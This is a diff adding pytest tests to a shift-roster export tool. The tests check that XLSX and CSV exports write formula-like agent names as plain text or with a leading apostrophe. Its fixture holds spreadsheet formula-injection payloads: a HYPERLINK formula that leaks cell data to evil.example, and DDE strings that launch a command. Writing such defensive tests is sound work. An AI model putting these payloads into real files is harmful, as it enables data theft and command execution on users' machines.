@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
+from dataclasses import replace
 from datetime import date, datetime
 
 import pytest
@@ -137,3 +139,66 @@ def test_sheet_titles_are_legal_and_unique_in_excel():
     assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles.values())
     assert titles["muc"] != "Shifts"
     assert len(set(titles.values())) == 2
+
+
+HOSTILE_NAMES = {
+    "DUB": '=HYPERLINK("https://evil.example/?leak="&A1,"Payslip")',
+    "BER": "+1+cmd|' /C calc'!A0",
+    "MUC": "-2+3",
+    "TYO": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _hostile_scenario(names: dict[str, str]):
+    sc = scenario(date(2027, 6, 7))
+    agents = tuple(replace(a, name=names.get(a.id, a.name)) for a in sc.agents)
+    return replace(sc, agents=agents)
+
+
+def _early_shifts(sc):
+    return roster([shift(sc, a.id, date(2027, 6, 7), "early") for a in sc.agents])
+
+
+def test_xlsx_writes_names_that_look_like_formulas_as_text_and_reads_them_back():
+    names = {**HOSTILE_NAMES, "TYO": "\tTab name"}
+    sc = _hostile_scenario(names)
+    data = hours_xlsx(sc, _early_shifts(sc))
+    workbook = load_workbook(io.BytesIO(data))
+
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows(2):
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+    by_agent = {
+        row[0].value: row[1] for row in workbook["Shifts"].iter_rows(2) if row[0].value in names
+    }
+    assert {agent: cell.value for agent, cell in by_agent.items()} == names
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in by_agent.values())
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
+
+
+@pytest.mark.parametrize("name", [*HOSTILE_NAMES.values(), "\tTab name", "\rCR name"])
+def test_csv_exports_put_an_apostrophe_before_text_that_starts_a_formula(name):
+    sc = _hostile_scenario({"DUB": name})
+    solved = _early_shifts(sc)
+
+    hours_lines = list(csv.DictReader(io.StringIO(hours_csv(worked_hours(sc, solved)))))
+    shift_lines = list(csv.DictReader(io.StringIO(shifts_csv(sc, solved))))
+
+    assert {line["agent_name"] for line in hours_lines if line["agent_id"] == "DUB"} == {"'" + name}
+    assert {line["agent_name"] for line in shift_lines if line["agent_id"] == "DUB"} == {"'" + name}
+
+
+def test_csv_exports_leave_ordinary_text_and_numbers_alone():
+    sc = _hostile_scenario({"DUB": "Seán O'Neill-Byrne"})
+    solved = _early_shifts(sc)
+
+    (line,) = [
+        x for x in csv.DictReader(io.StringIO(shifts_csv(sc, solved))) if x["agent_id"] == "DUB"
+    ]
+
+    assert line["agent_name"] == "Seán O'Neill-Byrne"
+    assert line["hours"] == "8.0"
+    assert line["start_local"].startswith("2027-06-07T07:00")
